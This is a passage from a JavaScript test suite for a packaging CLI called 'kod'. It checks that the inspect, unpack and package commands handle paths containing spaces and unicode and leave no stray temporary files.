      const root = await mkdtemp(path.join(work, 'control-'))
      const dir = path.join(root, 'dir with spaces', 'ünïcødé 📦')
      await mkdir(dir, {recursive: true})
      const pkg = path.join(dir, 'my package ü.kodpkg')
      await cp(good, pkg)
      const inspected = await kod(['inspect', '-c', pkg, '--json'], {env: {HOME: home, TMPDIR: root}})
      expect(inspected.exitCode, inspected.stderr).to.equal(0)
      expect(JSON.parse(inspected.stdout)).to.include({name: 'hello', version: '0.1.0'})
      const out = path.join(dir, 'out dir é')
      const unpacked = await kod(['unpack', '-c', pkg, '-o', out], {env: {HOME: home, TMPDIR: root}})
      expect(unpacked.exitCode, unpacked.stderr).to.equal(0)
      expect(await readdir(out)).to.include('kod-package.yaml')
      expect((await readdir(dir)).sort()).to.deep.equal(['my package ü.kodpkg', 'out dir é'])
      await rm(root, {recursive: true, force: true})
    })

    it('package a chart from a path with spaces and unicode, to one', async function () {
      const root = await mkdtemp(path.join(work, 'control-'))
      const chart = path.join(root, 'charts ü', 'hello chart')
      await cp(HELLO, chart, {recursive: true})
      const out = path.join(root, 'out ☃', 'pkg é.kodpkg')
      await mkdir(path.dirname(out))
      const tmp = path.join(root, 'tmp')
      await mkdir(tmp)
      const packaged = await kod(['package', '-c', chart, '-f', valuesFile, '-o', out, '--insecure-registry', upstream.host], {env: {HOME: home, TMPDIR: tmp}})
      expect(packaged.exitCode, packaged.stderr).to.equal(0)
      expect(await readdir(path.dirname(out))).to.deep.equal(['pkg é.kodpkg'])
      expect(await readdir(tmp)).to.deep.equal([])
      await rm(root, {recursive: true, force: true})
    })
  })
})
